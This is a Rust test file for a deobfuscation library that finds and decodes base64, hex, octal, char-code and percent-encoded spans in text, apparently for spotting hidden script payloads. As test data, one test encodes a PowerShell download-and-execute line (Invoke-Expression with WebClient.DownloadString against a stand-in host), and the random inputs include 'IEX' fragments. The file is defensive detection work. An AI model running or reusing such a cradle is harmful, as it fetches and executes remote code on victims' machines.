//! Slow, obvious twins of the recognisers: where a list or a run is, by regular expressions and by
//! trying every place; and what a span stands for, read symbol by symbol.

#![allow(
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::print_stderr,
    clippy::string_slice,
    clippy::unwrap_used,
    reason = "tests may fail loudly"
)]

use std::ops::Range;

use b64unpack::{Encoding, Encodings, Finder, Unpacker};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use proptest::prelude::*;
use regex::bytes::Regex;

/// What of these is found, whatever it is worth.
fn spans(encoding: Encoding, haystack: &[u8]) -> Vec<Range<usize>> {
    let only = Encodings::NONE.with(encoding);
    let unpacker = Unpacker::new().encodings(only).min_confidence(0.0);
    let tree = unpacker.unpack(haystack);
    tree.roots().filter_map(|root| root.range()).collect()
}

/// Pieces in any order, some of them repeated.
fn soup(pieces: Vec<String>) -> impl Strategy<Value = Vec<u8>> {
    let piece = proptest::sample::select(pieces);
    let repeated = (piece, prop_oneof![2 => Just(1usize), 1 => 1usize..24]);
    proptest::collection::vec(repeated, 0..24).prop_map(|all| {
        let all = all.iter().map(|(piece, times)| piece.repeat(*times));
        all.collect::<String>().into_bytes()
    })
}

fn strings(pieces: &[&str]) -> Vec<String> {
    pieces.iter().map(|&piece| piece.to_owned()).collect()
}

/// Numbers of a list with a mark, and what ends it.
fn listed(
    numbers: &'static [&'static str],
    marks: &'static [&'static str],
) -> impl Strategy<Value = (String, Vec<u8>)> {
    let mark = proptest::sample::select(marks.to_vec());
    mark.prop_flat_map(move |mark| {
        let joined = numbers.iter().map(|number| format!("{number}{mark}"));
        let spaced = numbers.iter().map(|number| format!("{number} {mark} "));
        let others = strings(&["(", ")", " ", mark, "\n", "$"]);
        let pieces = joined.chain(spaced).chain(others).collect();
        (Just(mark.to_owned()), soup(pieces))
    })
}

/// Lists of items with one mark between them that no word and, where `dot`, no dot is glued to.
fn lists(item: &str, mark: &str, least: usize, dot: bool, haystack: &[u8]) -> Vec<Range<usize>> {
    let mark = regex::escape(mark);
    let list = format!(r"(?-u){item}(?:\s*{mark}\s*{item})*");
    let list = Regex::new(&list).unwrap();
    let items = Regex::new(&format!("(?-u){item}")).unwrap();
    let glued = |byte: Option<&u8>| {
        byte.is_some_and(|&byte| {
            byte.is_ascii_alphanumeric() || byte == b'_' || (dot && byte == b'.')
        })
    };
    let found = list.find_iter(haystack).filter(|found| {
        let before = found.start().checked_sub(1).and_then(|at| haystack.get(at));
        let enough = items.find_iter(found.as_bytes()).count() >= least;
        enough && !glued(before) && !glued(haystack.get(found.end()))
    });
    found.map(|found| found.range()).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    #[test]
    fn octal_escapes(haystack in soup(strings(&[
        "\\101", "\\40", "\\1", "\\377", "\\0101", "\\0377", "\\0", "\\012", "\\.", "x", ".",
    ]))) {
        // Three digits behind a zero are preferred to two.
        let item = r"\\(?:0[0-3][0-7]{2}|[0-3][0-7]{2}|[0-7]{1,2})";
        let twin = Regex::new(&format!("(?-u){item}(?:{item}){{7,}}")).unwrap();
        let found = twin.find_iter(&haystack);
        // One letter at least shows that these are escapes.
        let shown = |found: &[u8]| [&b"\\1"[..], b"\\01"].iter().any(|letter| {
            found.windows(letter.len()).any(|part| part == *letter)
        });
        let letters = found.filter(|found| shown(found.as_bytes()));
        let expected: Vec<_> = letters.map(|found| found.range()).collect();
        prop_assert_eq!(spans(Encoding::CharCodes, &haystack), expected);
    }

    #[test]
    fn decimal_lists((mark, haystack) in listed(&["65", "104", "7", "255"], &[",", ";", ":", "|", "/", "~", "!"])) {
        let number = "(?:25[0-5]|2[0-4][0-9]|1[0-9]{2}|[0-9]{1,2})";
        let expected = lists(number, &mark, 12, true, &haystack);
        // With fewer symbols than twelve numbers of two digits nothing is looked for.
        let expected: Vec<_> = expected.into_iter().filter(|list| list.len() >= 36).collect();
        let short = lists(number, &mark, 12, true, &haystack).len() > expected.len();
        prop_assume!(!short);
        prop_assert_eq!(spans(Encoding::CharCodes, &haystack), expected);
    }

    #[test]
    fn lists_of_pairs((mark, haystack) in listed(&["4d", "5A", "90", "00"], &[",", ";", ":", "|", "~", "!", "-"])) {
        let expected = lists("[0-9a-fA-F]{2}", &mark, 12, false, &haystack);
        prop_assert_eq!(spans(Encoding::Hex, &haystack), expected);
    }

    #[test]
    fn wide_runs(haystack in soup(strings(&["Q\0", "a\0", "7\0", "\0", "\0\0\0", "x.", "=\0", ".", "+\0"]))) {
        let finder = Finder::new().min_len(5).context(false).joined(false).line_breaks(false);
        let found: Vec<_> = finder.find_iter(&haystack).map(|found| found.range()).collect();
        let mut expected = Vec::new();
        let mut at = 0;
        while at < haystack.len() {
            let symbol = |place: usize| match haystack.get(place) {
                Some(byte) => byte.is_ascii_alphanumeric() || b"+/".contains(byte),
                None => false,
            };
            let zero = |place: usize| haystack.get(place).is_none_or(|&byte| byte == 0);
            let unit = |place: usize| symbol(place) && zero(place + 1);
            let symbols = (0..).take_while(|many| unit(at + 2 * many)).count();
            if symbols < 5 {
                at += 1;
                continue;
            }
            let due = [0, 0, 2, 1][symbols % 4];
            let pad = |many: &usize| {
                let place = at + 2 * (symbols + many);
                haystack.get(place) == Some(&b'=') && zero(place + 1)
            };
            let padding = (0..due).take_while(pad).count();
            let end = haystack.len().min(at + 2 * (symbols + padding));
            expected.push(at..end);
            at = end;
        }
        // A haystack that is UTF-16 as a whole is the same to the finder.
        prop_assert_eq!(found, expected);
    }

    #[test]
    fn spans_mean_what_they_say(haystack in soup(strings(&[
        "\\x49", "\\x45", "\\x58", "\\111", "\\105 ", "\\130", "49 45 58 ", "0x49, ", "0x58,", "73,69,88,", "32,",
        "494558", "20", "' + '", "%49%45", "%58", "%2B", "SUVYIChOZXctT2JqZWN0KSBob2xk", "==", "-", "_",
        "0pmbg92dgcjchZGaghSYlJ3ZgAiZ", "FHILVPuBMKpgG2Vw", "JBSWY3DPEB3W64TMMQQQ", " ", "\n", "\"", "IEX",
    ]))) {
        let unpacker = Unpacker::new().encodings(Encodings::ALL).min_confidence(0.0);
        let tree = unpacker.unpack(&haystack);
        for root in tree.roots() {
            let span = &haystack[root.range().unwrap()];
            if let Some(meant) = meaning(root.encoding().unwrap(), span) {
                prop_assert_eq!(
                    root.bytes().escape_ascii().to_string(),
                    meant.escape_ascii().to_string(),
                    "{} {}", root.encoding().unwrap(), span.escape_ascii()
                );
            }
        }
    }
}

/// What a span stands for, read as slowly as can be; nothing where another test says it.
fn meaning(encoding: Encoding, span: &[u8]) -> Option<Vec<u8>> {
    let text = String::from_utf8_lossy(span).into_owned();
    match encoding {
        Encoding::Hex if text.contains("\\x") => Some(captured(span, r"\\x([0-9a-fA-F]{2})", 16)),
        Encoding::Hex if text.contains("0x") && text.contains(',') => {
            Some(captured(span, "0x([0-9a-fA-F]{1,2})", 16))
        }
        Encoding::Hex if !text.contains("0x") => {
            let digits: String = text.chars().filter(char::is_ascii_hexdigit).collect();
            Some(captured(digits.as_bytes(), "([0-9a-fA-F]{2})", 16))
        }
        Encoding::CharCodes if text.starts_with('\\') => {
            Some(captured(span, r"\\(0[0-7]{3}|[0-7]{1,3})", 8))
        }
        Encoding::CharCodes if text.starts_with(|c: char| c.is_ascii_digit()) => {
            Some(captured(span, "([0-9]+)", 10))
        }
        Encoding::Percent => {
            let mut bytes = Vec::new();
            let mut rest = span;
            while let Some((&first, more)) = rest.split_first() {
                let (byte, after) = match first {
                    b'%' => (number(&more[..2], 16), &more[2..]),
                    other => (other, more),
                };
                bytes.push(byte);
                rest = after;
            }
            Some(bytes)
        }
        Encoding::Base64Reversed => sextets(&text.chars().rev().collect::<String>()),
        Encoding::Base64Rot13 => {
            let turn =
                |c: char, first: char| char::from((c as u8 - first as u8 + 13) % 26 + first as u8);
            let turned = text.chars().map(|c| match c {
                'a'..='z' => turn(c, 'a'),
                'A'..='Z' => turn(c, 'A'),
                other => other,
            });
            sextets(&turned.collect::<String>())
        }
        // In pieces or in lines there is more between the symbols.
        Encoding::Base64 | Encoding::Base64Url | Encoding::Base64Mixed
            if text
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "+/-_=".contains(c)) =>
        {
            sextets(&text.replace('-', "+").replace('_', "/"))
        }
        _ => None,
    }
}

fn number(digits: &[u8], radix: u32) -> u8 {
    let text = std::str::from_utf8(digits).unwrap();
    u32::from_str_radix(text, radix).unwrap() as u8
}

fn captured(span: &[u8], item: &str, radix: u32) -> Vec<u8> {
    let item = Regex::new(&format!("(?-u){item}")).unwrap();
    let items = item.captures_iter(span);
    items.map(|found| number(&found[1], radix)).collect()
}

/// Base64 by whole groups of four, the last one filled up; nothing where a symbol is left over.
fn sextets(symbols: &str) -> Option<Vec<u8>> {
    let symbols = symbols.trim_end_matches('=');
    if symbols.contains('=') || symbols.len() % 4 == 1 {
        return None;
    }
    let filled = format!("{symbols}{}", &"AAA"[..(4 - symbols.len() % 4) % 4]);
    let mut bytes = STANDARD.decode(filled).ok()?;
    bytes.truncate(symbols.len() * 3 / 4);
    Some(bytes)
}

/// Every list that scripts put together is the string they make of it (PowerShell's `-join` and
/// `-f`, Python's and JavaScript's `join`).
#[test]
fn what_scripts_put_together() {
    let text = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://a.example')";
    let encoded = STANDARD.encode(text);
    for width in [1, 2, 3, 5, 7, 11, 16, 40] {
        let pieces: Vec<&str> = encoded
            .as_bytes()
            .chunks(width)
            .map(|piece| std::str::from_utf8(piece).unwrap())
            .collect();
        let order: Vec<usize> = (0..pieces.len()).rev().collect();
        let format: String = order.iter().map(|place| format!("{{{place}}}")).collect();
        let turned: Vec<&str> = pieces.iter().rev().copied().collect();
        let written = [
            format!("('{}') -join ''", pieces.join("','")),
            format!("-join ('{}')", pieces.join("', '")),
            format!("[string]::Join('', ('{}'))", pieces.join("','")),
            format!("''.join(['{}'])", pieces.join("', '")),
            format!("[\"{}\"].join(\"\")", pieces.join("\",\"")),
            format!("(\"{format}\" -f '{}')", turned.join("','")),
            format!("'{}'", pieces.join("'+'")),
            format!("\"{}\"", pieces.join("\" & \"")),
        ];
        for line in written {
            let tree = Unpacker::new().unpack(format!("$x = {line};"));
            let found: Vec<_> = tree.roots().map(|root| root.bytes()).collect();
            assert_eq!(found, [text.as_bytes()], "{line}");
        }
    }
}
